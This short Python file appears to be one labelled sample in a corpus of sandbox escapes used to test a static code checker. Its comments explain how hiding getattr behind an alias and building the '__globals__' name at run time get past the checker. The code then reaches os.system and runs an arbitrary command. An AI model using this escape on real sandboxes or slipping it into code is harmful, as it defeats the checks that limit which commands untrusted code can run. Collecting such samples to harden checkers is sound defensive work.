# family: computed
# Escape: "fetch = getattr" comes first (the builtin), and a later "getattr = None" gives the module a binding,
# so the checker no longer treats the earlier use as the builtin getattr. The name is "--globals--" translated
# to underscores at run time (str.translate is not folded), reaching typing's globals and its sys module.
import typing

fetch = getattr


def tool(cmd: str):
    space = fetch(typing.cast, "--globals--".translate({45: 95}))
    return space["sys"].modules["os"].system(cmd)


getattr = None
